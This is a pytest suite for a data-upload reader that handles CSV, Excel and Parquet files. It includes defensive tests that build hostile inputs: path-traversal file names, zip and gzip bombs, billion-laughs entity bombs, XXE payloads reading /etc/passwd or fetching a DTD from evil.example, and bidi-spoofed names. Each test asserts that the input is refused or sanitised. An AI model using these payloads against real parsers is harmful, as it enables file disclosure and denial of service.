"""File-level reading: encodings, delimiters, structure, Excel and Parquet containers, caps."""
from __future__ import annotations

import codecs
import gzip
import io

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import shared_file

from sop_core.intake.errors import IntakeError
from sop_core.intake.raw_table import Limits
from sop_core.intake.readers import read_file, sanitise_name

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(64)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)


def rejected(name: str, data: bytes, **kw) -> IntakeError:
    """The IntakeError read_file raises for this upload."""
    with pytest.raises(IntakeError) as info:
        read_file(name, data, **kw)
    return info.value


def xlsx(sheets: dict[str, list[list]], hidden: tuple[str, ...] = ()) -> bytes:
    """An .xlsx with the given sheets (rows of values; strings starting '=' are formulas)."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
        if title in hidden:
            ws.sheet_state = "hidden"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# -- names -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, expected", [
    ("../../etc/cron.d/x.csv", "x.csv"),
    ("C:\\Users\\me\\sales.csv", "sales.csv"),
    ("sa\x00les.csv", "sales.csv"),
    ("a.exe:x.csv", "a.exe_x.csv"),
    ("", "upload"),
])
def test_file_names_are_sanitised(name: str, expected: str) -> None:
    assert sanitise_name(name) == expected


def test_long_file_name_is_capped_and_keeps_extension() -> None:
    name = sanitise_name("x" * 300 + ".csv")
    assert len(name) <= 120 and name.endswith(".csv")


def test_malicious_name_never_escapes_and_is_only_displayed() -> None:
    raw = read_file("../../etc/cron.d/x.csv", b"sku,qty\nA,1\n")
    assert raw.file_name == "x.csv"


# -- CSV ---------------------------------------------------------------------------------------------

def test_plain_csv_keeps_text_and_numbers_rows_from_two() -> None:
    raw = read_file("s.csv", b"sku,qty\n00123,5\nA1,7\n")
    assert raw.headers == ["sku", "qty"]
    assert raw.data["sku"].tolist() == ["00123", "A1"]
    assert raw.line_numbers.tolist() == [2, 3]
    assert raw.delimiter == "," and raw.encoding == "utf-8"


def test_utf8_bom_is_stripped_from_first_header() -> None:
    raw = read_file("s.csv", codecs.BOM_UTF8 + b"sku,qty\nA,1\n")
    assert raw.headers[0] == "sku" and raw.encoding == "utf-8-sig"


def test_utf16_with_bom_is_read() -> None:
    raw = read_file("s.csv", "sku,qty\nCafé,1\n".encode("utf-16"))
    assert raw.headers == ["sku", "qty"]
    assert raw.data["sku"].tolist() == ["Café"]
    assert raw.encoding == "utf-16"


def test_latin1_is_rejected_unless_encoding_chosen() -> None:
    data = "sku,qty\nCafé,1\n".encode("latin-1")
    err = rejected("s.csv", data)
    assert "not UTF-8" in str(err) and "re-save as UTF-8 or choose an encoding" in str(err)
    assert "line 2" in str(err)
    raw = read_file("s.csv", data, encoding="cp1252")
    assert raw.data["sku"].tolist() == ["Café"]


@pytest.mark.parametrize("delim", [";", "\t", "|"])
def test_delimiters_are_detected(delim: str) -> None:
    text = delim.join(["date", "sku", "qty"]) + "\n" + delim.join(["2024-01-01", "A, B", "1,5"]) + "\n"
    raw = read_file("s.csv", text.encode())
    assert raw.delimiter == delim
    assert raw.headers == ["date", "sku", "qty"]
    assert raw.data["qty"].tolist() == ["1,5"]


def test_quoted_commas_and_quotes_survive() -> None:
    raw = read_file("s.csv", b'sku,name\nA,"Book, Wirebound, 5 1/2"" X 4"""\n')
    assert raw.data["name"].tolist() == ['Book, Wirebound, 5 1/2" X 4"']


def test_cr_only_and_crlf_line_endings() -> None:
    for eol in (b"\r", b"\r\n"):
        raw = read_file("s.csv", eol.join([b"ds,y", b"1949-01-01,112", b"1949-02-01,118", b""]))
        assert raw.data["y"].tolist() == ["112", "118"]
        assert raw.line_numbers.tolist() == [2, 3]


def test_cr_only_prophet_file(shared_data) -> None:
    path = shared_file("prophet_examples/example_air_passengers.csv")
    raw = read_file(path.name, path.read_bytes())
    assert raw.headers == ["ds", "y"] and raw.rows == 144


def test_ragged_rows_list_the_lines() -> None:
    err = rejected("s.csv", b"a,b,c,d\n1,2,3,4\n1,2,3,4,5\n1,2,3\n1,2,3,4\n")
    text = str(err)
    assert "line 3: 5 fields, expected 4 (too many columns)" in text
    assert "line 4: 3 fields, expected 4 (missing columns)" in text
    assert err.kind == "ragged" and err.count == 2


def test_duplicate_column_names_are_rejected_not_renamed() -> None:
    err = rejected("s.csv", b"sku,qty,qty\nA,1,2\n")
    assert "duplicate column qty" in str(err)


def test_nul_in_a_field_names_row_and_column() -> None:
    err = rejected("s.csv", b"sku,qty\nA,1\nB\x00X,2\n")
    assert err.column == "sku" and err.rows == [3]
    assert "NUL or control character" in str(err)


def test_blank_rows_are_dropped_and_counted() -> None:
    raw = read_file("s.csv", b"sku,qty\nA,1\n,\n\nB,2\n ,  \n")
    assert raw.data["sku"].tolist() == ["A", "B"]
    assert raw.line_numbers.tolist() == [2, 5]
    assert raw.blank_rows == 3
    assert any("3 blank rows dropped" in w for w in raw.warnings)


def test_wine_file_blank_trailing_rows(shared_data) -> None:
    path = shared_file("australian_wines/AustralianWines_6varieties.csv")
    raw = read_file(path.name, path.read_bytes())
    assert raw.rows == 180 and raw.blank_rows == 8
    assert raw.headers[2] == "Red "  # original header kept for messages


def test_empty_and_header_only() -> None:
    assert "file is empty" in str(rejected("s.csv", b""))
    assert "file is empty" in str(rejected("s.csv", b"\r\n\n"))
    assert "no data rows" in str(rejected("s.csv", b"sku,qty\n"))
    assert "no data rows" in str(rejected("s.csv", b"sku,qty\n,\n"))


@pytest.mark.parametrize("data, what", [
    (PNG, "a PNG image"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "a PDF document"),
    (b"PK\x03\x04" + bytes(100), "a zip archive or Excel file"),
    (bytes(range(256)) * 8, "binary data"),
])
def test_binary_renamed_csv_is_rejected(data: bytes, what: str) -> None:
    assert f"not a valid CSV file (looks like {what})" in str(rejected("photo.csv", data))


def test_compressed_uploads_are_refused() -> None:
    bomb = gzip.compress(b"sku,qty\n" + b"A,1\n" * 100_000)
    assert "compressed uploads are not allowed" in str(rejected("big.csv.gz", bomb))
    assert "compressed uploads are not allowed" in str(rejected("big.csv", bomb))


def test_size_row_and_line_caps() -> None:
    assert "max 1 MB" in str(rejected("s.csv", b"a,b\n" + b"1,2\n" * 300_000, limits=Limits(max_bytes=1024 * 1024)))
    err = rejected("s.csv", b"a,b\n" + b"1,2\n" * 1001, limits=Limits(max_rows=1000))
    assert "max 1,000 rows" in str(err)
    err = rejected("s.csv", b"a,b\n1," + b"x" * 5000 + b"\n", limits=Limits(max_line_bytes=1000))
    assert "line 2 too long" in str(err)
    err = rejected("s.csv", b"a" * 5000 + b"\n1\n", limits=Limits(max_line_bytes=1000))
    assert "line 1 too long" in str(err)


def test_unknown_extension() -> None:
    assert "unsupported file type '.json'" in str(rejected("x.json", b"{}"))


# -- Excel -------------------------------------------------------------------------------------------

def test_xlsx_single_sheet_with_dates_numbers_and_text() -> None:
    import datetime as dt

    data = xlsx({"Sales": [["date", "sku", "qty"], [dt.datetime(2024, 1, 5), "00123", 5.0], [None, None, None],
                           [dt.date(2024, 1, 6), 123, 2.5]]})
    raw = read_file("s.xlsx", data)
    assert raw.kind == "xlsx" and raw.sheet == "Sales"
    assert raw.data["date"].tolist() == ["2024-01-05", "2024-01-06"]
    assert raw.data["sku"].tolist() == ["00123", "123"]
    assert raw.data["qty"].tolist() == ["5", "2.5"]
    assert raw.line_numbers.tolist() == [2, 4]


def test_xlsx_data_on_second_sheet_asks_for_it() -> None:
    data = xlsx({"Sheet1": [], "Data": [["sku", "qty"], ["A", 1]]})
    err = rejected("s.xlsx", data)
    assert "sheet 'Sheet1' is empty; data found on sheet 'Data' — choose that sheet" in str(err)
    assert err.choices == ["Data"]
    assert read_file("s.xlsx", data, sheet="Data").data["sku"].tolist() == ["A"]


def test_xlsx_several_sheets_need_a_choice_and_hidden_are_ignored() -> None:
    data = xlsx({"A": [["sku"], ["x"]], "B": [["sku"], ["y"]], "Secret": [["sku"], ["z"]]}, hidden=("Secret",))
    err = rejected("s.xlsx", data)
    assert "several sheets hold data: 'A', 'B' — choose one" in str(err)
    assert "Secret" not in str(err)
    assert "hidden" in str(rejected("s.xlsx", data, sheet="Secret"))
    raw = read_file("s.xlsx", data, sheet="B")
    assert raw.data["sku"].tolist() == ["y"] and any("hidden sheet 'Secret' ignored" in w for w in raw.warnings)


def test_xlsx_only_hidden_extra_sheets_read_the_visible_one() -> None:
    data = xlsx({"Data": [["sku"], ["x"]], "Calc": [["k"], [1]]}, hidden=("Calc",))
    assert read_file("s.xlsx", data).sheet == "Data"


def test_xlsx_formula_without_cached_value() -> None:
    data = xlsx({"Sales": [["sku", "qty", "total"], ["A", 1, 2], ["B", 2, "=B3*2"]]})
    err = rejected("s.xlsx", data)
    assert "cell C3 contains a formula with no saved value — open and save in Excel" in str(err)


def test_encrypted_xlsx_and_wrong_content() -> None:
    assert "file is encrypted — remove the password" in str(rejected("s.xlsx", OLE))
    assert "not a valid Excel file" in str(rejected("s.xlsx", b"sku,qty\nA,1\n"))
    assert "not a valid Excel file" in str(rejected("s.xlsx", PNG))
    assert "not a valid Excel file" in str(rejected("s.xlsx", b"PK\x03\x04garbage" + bytes(50)))


# -- Parquet -----------------------------------------------------------------------------------------

def _parquet(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf, write_page_checksum=True)
    return buf.getvalue()


def test_parquet_is_read_as_text() -> None:
    import datetime as dt

    data = _parquet(pa.table({"date": [dt.date(2024, 1, 1), dt.date(2024, 1, 2)], "sku": ["00123", None],
                              "qty": [1.5, 2.0], "n": pa.array([1, None], pa.int64())}))
    raw = read_file("s.parquet", data)
    assert raw.data["date"].tolist() == ["2024-01-01", "2024-01-02"]
    assert raw.data["sku"].tolist() == ["00123", ""]
    assert raw.data["qty"].tolist()[0] == "1.5"
    assert raw.data["n"].tolist() == ["1", ""]


def test_a_float_nan_in_parquet_is_a_blank_like_null() -> None:
    """pyarrow, Polars and Spark write NaN for a blank float; it reads as blank, not as the text 'nan'."""
    data = _parquet(pa.table({"qty": pa.array([1.5, float("nan"), None], pa.float64()),
                              "f32": pa.array([float("nan"), 2.0, 3.0], pa.float32())}))
    raw = read_file("s.parquet", data)
    assert raw.data["qty"].tolist() == ["1.5", "", ""]
    assert raw.data["f32"].tolist() == ["", "2", "3"]


def test_truncated_or_corrupt_parquet() -> None:
    data = _parquet(pa.table({"sku": [f"S{i}" for i in range(5000)], "qty": list(range(5000))}))
    assert "corrupt Parquet file" in str(rejected("s.parquet", data[: len(data) // 2]))
    flipped = bytearray(data)
    middle = len(flipped) // 3
    flipped[middle:middle + 64] = bytes(64)
    assert "corrupt Parquet file" in str(rejected("s.parquet", bytes(flipped)))
    assert "corrupt Parquet file" in str(rejected("s.parquet", PNG))


def test_xml_bomb_and_zip_expansion_are_refused() -> None:
    import zipfile

    data = xlsx({"S": [["sku", "qty"], ["A", 1]]})
    lol = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    bomb = (f'<?xml version="1.0"?><!DOCTYPE lolz [{lol}]><worksheet xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
            '</row></sheetData></worksheet>').encode()
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, bomb if item.filename == "xl/worksheets/sheet1.xml" else src.read(item.filename))
    err = rejected("bomb.xlsx", out.getvalue())  # refused, saying what and why (issue 13 item 17)
    assert "refused for safety" in str(err) and "billion laughs" in str(err) and err.kind == "unsafe_xml"
    assert "when unzipped; max 1 KB" in str(rejected("s.xlsx", data, limits=Limits(max_unzipped_bytes=1024)))


# -- issue 13: the same text checks for every reader ---------------------------------------------------

@pytest.mark.parametrize("value", ["A\x00B", "\x1b[31mred\x1b[0m", "A\x7fB", "A\x9b31mB", "A\x08B"])
def test_parquet_text_gets_the_control_character_check(value: str) -> None:
    """Issue 13 item 13: NUL and escape sequences in a Parquet sku are refused with row and column, as in a CSV."""
    data = _parquet(pa.table({"sku": ["ok", value, "fine"], "qty": [1, 2, 3]}))
    err = rejected("s.parquet", data)
    assert err.column == "sku" and err.rows == [3] and err.kind == "control_chars"
    assert "s.parquet, column 'sku': 1 row contains a NUL or control character (row 3)" in str(err)
    csv_err = rejected("s.csv", f"sku,qty\nok,1\n{value},2\n".encode())
    assert (csv_err.column, csv_err.rows, csv_err.kind) == ("sku", [3], "control_chars")


def test_a_control_character_in_a_parquet_column_name_is_refused() -> None:
    err = rejected("s.parquet", _parquet(pa.table({"sk\x1bu": ["a"], "qty": [1]})))
    assert "contains a NUL or control character" in str(err) and err.kind == "control_chars"


def test_tabs_and_line_breaks_in_cells_are_not_control_characters() -> None:
    raw = read_file("s.parquet", _parquet(pa.table({"note": ["a\tb", "c\nd", "e\r\nf"], "qty": [1, 2, 3]})))
    assert raw.data["note"].tolist() == ["a\tb", "c\nd", "e\r\nf"]


SPOOF = "abc\u202egpj.exe"  # shown as "abcexe.jpg"


def _bidi_files() -> list[tuple[str, bytes]]:
    rows = [["sku", "note\u200f"], ["A1", SPOOF], ["\u2066B2\u2069", "plain"], ["C3", "x\u202ay\u202c"]]
    as_csv = "\n".join(",".join(r) for r in rows).encode()
    table = pa.table({h: [r[i] for r in rows[1:]] for i, h in enumerate(rows[0])})
    return [("s.csv", as_csv), ("s.xlsx", xlsx({"S": rows})), ("s.parquet", _parquet(table))]


@pytest.mark.parametrize("name, data", _bidi_files(), ids=["csv", "xlsx", "parquet"])
def test_bidi_controls_are_removed_from_every_reader_with_a_warning(name: str, data: bytes) -> None:
    """Issue 13 item 16: right-to-left overrides and isolates are removed from cells and headers, rows named."""
    raw = read_file(name, data)
    assert raw.headers == ["sku", "note"]
    assert raw.data["sku"].tolist() == ["A1", "B2", "C3"] and raw.data["note"].tolist() == ["abcgpj.exe", "plain", "xy"]
    text = "\n".join(raw.warnings)
    assert "1 column header ('note') held invisible bidirectional control characters (U+200F RIGHT-TO-LEFT MARK)" \
        in text
    assert "column 'note': 2 values held invisible bidirectional control characters (U+202A LEFT-TO-RIGHT " \
           "EMBEDDING, U+202C POP DIRECTIONAL FORMATTING, …)" in text and "removed (rows 2, 4)" in text
    assert "column 'sku': 1 value held" in text and "removed (row 3)" in text
    assert "\\u202e" in text  # the example is shown escaped, never as spoofing text


def test_bidi_controls_are_removed_from_file_names_and_typed_names() -> None:
    from sop_core.intake.validate import text_field

    assert sanitise_name("report\u202eslx.exe") == "reportslx.exe"
    assert sanitise_name("a\u2067b\u2069\u200e.csv\x9b") == "ab.csv"
    assert text_field(" Plan\u202e A ", "a version name", 40) == "Plan A"
    with pytest.raises(ValueError, match="is required"):
        text_field("\u202e\u200f", "a title", 40)


# -- issue 13 item 17: XXE and entity bombs are named -------------------------------------------------------

LOL = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
SHEET = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
         '<c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row></sheetData></worksheet>')
HOSTILE_XML = {
    "billion laughs": (f'<?xml version="1.0"?><!DOCTYPE lolz [{LOL}]>' + SHEET.format(cell="&lol9;"),
                       "10 entity declarations — text that expands into more text (a 'billion laughs' bomb"),
    "xxe file": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                 + SHEET.format(cell="&xxe;"), "an external entity — a reference to a file or address outside"),
    "xxe url": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p PUBLIC "x" "http://evil.example/x.dtd"> %p;]>'
                + SHEET.format(cell="x"), "an external entity"),
    "dtd only": ('<?xml version="1.0"?><!DOCTYPE worksheet>' + SHEET.format(cell="x"),
                 "a document type declaration (DTD)"),
    "utf-16 xxe": ('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                   + SHEET.format(cell="&xxe;"), "an external entity"),
}


def _with_part(part: str, content: bytes) -> bytes:
    """A valid one-sheet workbook whose XML part `part` is replaced by `content`."""
    import zipfile

    data = xlsx({"S": [["sku", "qty"], ["A", 1]]})
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, content if item.filename == part else src.read(item.filename))
    return out.getvalue()


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml",
                                  "docProps/core.xml", "xl/_rels/workbook.xml.rels"])
@pytest.mark.parametrize("attack", list(HOSTILE_XML))
def test_xxe_and_entity_bombs_are_refused_saying_what_and_why(attack: str, part: str) -> None:
    text, why = HOSTILE_XML[attack]
    content = text.encode("utf-16") if attack.startswith("utf-16") else text.encode()
    err = rejected("evil.xlsx", _with_part(part, content))
    assert err.kind == "unsafe_xml" and "ValueError" not in str(err)
    assert str(err).startswith(f"evil.xlsx: refused for safety: part {part} of the workbook declares ")
    assert why in str(err) and "nothing in it was read" in str(err) and "Excel never writes these" in str(err)


def test_a_refusal_found_only_by_the_parser_is_named_too() -> None:
    """Defence in depth: a DTD past the scanned head still reaches defusedxml, whose refusal is named."""
    from defusedxml import EntitiesForbidden

    from sop_core.intake.excel import _excel_error

    try:
        try:
            raise EntitiesForbidden("lol", None, None, None, None, None)
        except EntitiesForbidden as inner:
            raise ValueError("Unable to read workbook: could not read worksheets") from inner
    except ValueError as wrapped:
        err = _excel_error("x.xlsx", wrapped)
    assert err.kind == "unsafe_xml" and "billion laughs" in str(err) and "refused for safety" in str(err)
    padded = '<?xml version="1.0"?>' + "<!-- pad -->" * 7000 + f"<!DOCTYPE lolz [{LOL}]>" + SHEET.format(cell="&lol9;")
    err = rejected("late.xlsx", _with_part("xl/worksheets/sheet1.xml", padded.encode()))
    assert err.kind == "unsafe_xml" and "ValueError" not in str(err)


# -- issue 13 item 10: small files that ask for huge memory ---------------------------------------------

def _edit_sheet(data: bytes, edit) -> bytes:
    """The .xlsx `data` with its first sheet's XML passed through `edit` (bytes -> bytes)."""
    import zipfile

    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            dst.writestr(item, edit(body) if item.filename == "xl/worksheets/sheet1.xml" else body)
    return out.getvalue()


def huge_dimension_xlsx() -> bytes:
    """A 5 KB workbook of two data rows that declares A1:XFD1048576 and has an (empty) row 1,048,576."""
    import re

    data = xlsx({"S": [["date", "sku", "quantity"], ["2024-01-01", "A", 5], ["2024-02-01", "B", 7]]})
    return _edit_sheet(data, lambda b: re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:XFD1048576"/>', b)
                       .replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"/></row></sheetData>'))


def test_a_declared_sheet_size_is_not_trusted() -> None:
    """The size a sheet declares no longer pads every row to 16,384 columns (7 GB for a 5 KB file)."""
    data = huge_dimension_xlsx()
    assert len(data) < 10_000
    raw = read_file("dims.xlsx", data)
    assert raw.headers == ["date", "sku", "quantity"] and raw.rows == 2
    assert raw.data.shape == (2, 3)


def test_too_many_columns_are_refused_naming_the_cell_or_the_count() -> None:
    wide_sheet = xlsx({"S": [["sku", "qty"], ["A", 1, None, None, "x"]]})
    err = rejected("wide.xlsx", wide_sheet, limits=Limits(max_columns=4))
    assert str(err) == ("wide.xlsx: sheet 'S' has a value in cell E2 (column 5); at most 4 columns can be read — "
                        "delete the columns the table does not need, or save it as CSV with only those")
    assert err.kind == "too_many_columns"
    # formatted but empty cells to the right are not columns
    assert read_file("ok.xlsx", xlsx({"S": [["sku", "qty", None, None], ["A", 1, None]]}),
                     limits=Limits(max_columns=2)).headers == ["sku", "qty"]
    header = ",".join(f"c{i}" for i in range(5000)).encode() + b"\n"  # the default cap is 4,096 columns
    err = rejected("wide.csv", header + b",".join([b"1"] * 5000) + b"\n")
    assert "the header has 5,000 columns; at most 4,096 can be read — check the delimiter" in str(err)
    assert err.kind == "too_many_columns"


def test_a_zip_bomb_under_the_total_cap_is_refused_by_its_expansion() -> None:
    """0.9 MB that inflates to 1 GB: refused by how far one part expands, before any XML parser sees it."""
    data = xlsx({"S": [["sku", "qty"], ["A", 1]]})
    bomb = _edit_sheet(data, lambda b: b.replace(b"<sheetData>", b"<sheetData>" + b" " * (40 * 1024 * 1024)))
    assert len(bomb) < 100_000
    err = rejected("bomb.xlsx", bomb)
    assert err.kind == "zip_bomb"
    assert "bomb.xlsx: refused for safety: part xl/worksheets/sheet1.xml of the workbook expands from" in str(err)
    assert "at most 100 times is accepted" in str(err) and "nothing in it was read" in str(err)
    assert read_file("ok.xlsx", data).rows == 1  # ordinary workbooks expand 5 to 20 times


# -- issue 13 item 11: large workbooks are streamed ------------------------------------------------------------

def _openpyxl_texts(data: bytes) -> list[list[str]]:
    """What openpyxl itself reads from the first sheet (cached values as text, trailing blanks cut)."""
    from sop_core.intake.excel import cell_text

    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    try:
        rows = []
        for row in wb.worksheets[0].iter_rows(values_only=True):
            texts = [cell_text(v) for v in row]
            while texts and texts[-1] == "":
                texts.pop()
            rows.append(texts)
        return rows
    finally:
        wb.close()


def test_the_streamed_sheet_reads_what_openpyxl_reads(monkeypatch) -> None:
    """Every kind of cell, read by the streaming reader, never by openpyxl's worksheet parser (which also parsed
    each sheet once more just to size it: a 1.9 M-row workbook took 148 s and hit the app's 120 s limit)."""
    import datetime as dt
    import re

    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont
    from openpyxl.worksheet import _reader

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(["date", "sku", "quantity", "flag", "note", "when", "price"])
    ws.append([dt.datetime(2024, 1, 5), "A-1", 5, True, "plain", dt.time(12, 30), 1.5])
    ws.append([dt.datetime(2024, 1, 6, 8, 15), "00123", 7.0, False, CellRichText("bold", TextBlock(InlineFont(b=True),
                                                                                                  " part")), None, 1e-7])
    ws.append([])
    ws.append([dt.date(2023, 12, 31), "-sku", -3, None, "#N/A", None, 123456789012])
    ws["E5"].data_type = "e"
    ws.append(["2024-02-01", "Ü ö € 中文", 0, None, "x & <y>", None, -0.25])
    ws.cell(row=9, column=2, value="after a gap")
    ws.cell(row=9, column=1, value=dt.datetime(2024, 3, 1))
    ws.cell(row=9, column=3, value=1)
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()

    expected = _openpyxl_texts(data)
    monkeypatch.setattr(_reader.WorkSheetParser, "parse", lambda self: (_ for _ in ()).throw(AssertionError("parsed")))
    monkeypatch.setattr(_reader.WorkSheetParser, "parse_dimensions",
                        lambda self: (_ for _ in ()).throw(AssertionError("sized")))
    raw = read_file("s.xlsx", data)
    got = [list(raw.headers)] + [[v for v in row] for row in raw.data.itertuples(index=False, name=None)]
    want = [r + [""] * (7 - len(r)) for r in expected if any(r)]
    assert got == want
    assert list(raw.line_numbers) == [2, 3, 5, 6, 9]
    assert raw.warnings == ["3 blank rows dropped (rows 4, 7, 8)"] and raw.blank_rows == 3

    # the same sheet with prefixed tags (x:c, x:v), as some generators write it, reads the same
    def prefixed(body: bytes) -> bytes:
        body = re.sub(rb"<(/?)(\w+)([ >/])", rb"<\1x:\2\3", body)
        return body.replace(b'xmlns="http', b'xmlns:x="http', 1)

    again = read_file("p.xlsx", _edit_sheet(data, prefixed))
    assert again.data.equals(raw.data) and again.headers == raw.headers


def test_a_workbook_slower_than_the_time_limit_is_too_large_here_never_corrupt() -> None:
    from sop_core.intake.worker import WorkerLimits, prepare_isolated

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["date", "sku", "quantity"])
    for i in range(2000):
        ws.append([f"2024-01-{1 + i % 28:02d}", f"S{i}", i])
    buf = io.BytesIO()
    wb.save(buf)
    p = prepare_isolated("big.xlsx", buf.getvalue(), "sales", worker=WorkerLimits(seconds=0.3))
    assert not p.ok and p.errors[0].kind == "too_large"
    assert str(p.errors[0]) == ("big.xlsx: too large to load here: reading it took longer than the 0.3 s limit — "
                                "save it as CSV or Parquet (or split it) and load that")
    assert "corrupt" not in str(p.errors[0])
